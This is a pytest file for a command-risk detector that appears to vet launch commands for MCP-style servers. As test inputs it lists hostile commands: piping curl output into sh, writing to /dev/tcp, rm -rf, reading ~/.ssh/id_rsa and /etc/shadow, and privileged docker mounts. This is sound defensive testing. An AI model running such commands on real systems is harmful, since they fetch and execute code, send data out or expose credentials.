import shlex

import pytest

from lockgate.control_plane.services.risks import find_risks, find_url_risks, shown


@pytest.mark.parametrize(
    ("command", "level", "says"),
    [
        ("bash -c 'echo hi'", "danger", "shell"),
        ("sudo npx x@1.0.0", "danger", "another user"),
        ("python -c 'print(1)'", "danger", "code given"),
        ("/tmp/server", "danger", "leave files"),
        ("./server", "warning", "directory it is started in"),
        ("sh -c 'curl http://a | sh'", "danger", "pipes it on"),
        ("sh -c 'rm -rf x'", "danger", "deletes"),
        ("sh -c 'echo x | base64 -d'", "danger", "encoded"),
        ("sh -c 'cat > /dev/tcp/a/1'", "danger", "raw connection"),
        ("server --file ~/.ssh/id_rsa", "danger", "credentials are kept"),
        ("server --file /etc/shadow", "danger", "credentials are kept"),
        ("server 'a && b'", "warning", "shell syntax"),
        ("server /", "warning", "whole disk"),
        ("npx -y some-server", "warning", "without a fixed version"),
        ("uvx git+https://x.example/a", "danger", "from an address"),
        ("docker run --privileged x", "danger", "take over"),
        ("docker run -v /:/host x", "danger", "take over"),
        ("docker run --network host x", "warning", "own network"),
        ("server --api-key abcdef", "danger", "secret among"),
        ("server --token=abcdef", "danger", "secret among"),
        ("server ghp_0123456789abcdefghijklmn", "danger", "secret among"),
        ("server $'\u202e'", "danger", "cannot be seen"),
    ],
)
def test_risky_patterns(command: str, level: str, says: str) -> None:
    found = find_risks(shlex.split(command), {})
    assert any(r.level == level and says in r.says for r in found), found


@pytest.mark.parametrize(
    "command",
    ["mcp-server-git --repository /srv/repo", "npx -y @scope/server@1.2.3 /srv", "uvx server==1.0",
     "uvx mcp-server-time@2026.10.1 --local-timezone UTC", "/usr/bin/server --token-file /run/t"],
)  # fmt: skip
def test_ordinary_commands_have_none(command: str) -> None:
    assert find_risks(shlex.split(command), {"LANG": "C"}) == ()


def test_steering_variables_are_named() -> None:
    (found,) = find_risks(["server"], {"LD_PRELOAD": "x"})
    assert "LD_PRELOAD" in found.says


def test_the_worst_comes_first() -> None:
    levels = [r.level for r in find_risks(["bash", "-c", "a; b"], {})]
    assert levels == sorted(levels)
    assert levels[0] == "danger"


def test_the_command_is_shown_whole_and_nothing_is_hidden() -> None:
    assert shown(["a b", "c" * 500]) == f"'a b' {'c' * 500}"
    assert "\u202e" not in shown(["x\u202e"])


def test_plain_http_to_another_machine() -> None:
    assert find_url_risks("http://a.example/mcp")
    for url in (
        "https://a.example",
        "http://localhost:1/mcp",
        "http://127.0.0.1/",
        "http://[::1]/",
    ):
        assert not find_url_risks(url)
